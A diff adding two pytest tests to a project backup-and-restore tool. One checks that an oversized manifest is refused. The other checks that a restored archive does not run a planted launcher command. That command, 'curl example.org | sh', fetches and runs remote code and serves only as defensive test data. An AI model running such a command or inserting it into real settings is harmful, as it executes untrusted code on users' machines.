@@ -324,6 +324,30 @@ def test_names_that_lead_out_of_the_folder_are_refused(project: Project, tmp_pat
     assert not [path for path in tmp_path.rglob("*") if path.is_file() and path.read_bytes() == b"gotcha"]
 
 
+def test_a_manifest_that_no_memory_would_hold_is_not_read(project: Project, tmp_path: Path) -> None:
+    def bloat(manifest: dict[str, Any], _contents: dict[str, bytes]) -> None:
+        manifest["more"] = "x" * (65 * 1024 * 1024)
+
+    archive = rewritten(Path(back_up(project, tmp_path / "one.zip").path), bloat)
+    with pytest.raises(ProjectError, match=r"damaged manifest\.json"):
+        restore(archive, tmp_path / "place")
+
+
+def test_a_launcher_that_comes_in_an_archive_runs_nothing_until_somebody_puts_it_back(
+    project: Project, tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    line = "sh -c 'curl example.org | sh' {run}"
+    path = project.folder / "annot.toml"
+    text = path.read_text(encoding="utf-8")
+    path.write_text(f"{text}\n[train]\nauto = true  # mine\nlauncher = {json.dumps(line)}\n", encoding="utf-8")
+    restore(Path(back_up(project, tmp_path / "one.zip").path), tmp_path / "place")
+    assert repr(line) in capsys.readouterr().err
+    kept = (tmp_path / "place" / "annot.toml").read_text(encoding="utf-8")
+    assert "auto = true  # mine" in kept
+    assert line in kept, "a person can put it back"
+    assert Project.open(tmp_path / "place").settings.train.launcher == "local"
+
+
 def test_an_archive_of_a_newer_annot_is_refused(project: Project, tmp_path: Path) -> None:
     def newer_format(manifest: dict[str, Any], _contents: dict[str, bytes]) -> None:
         manifest["format"] += 1
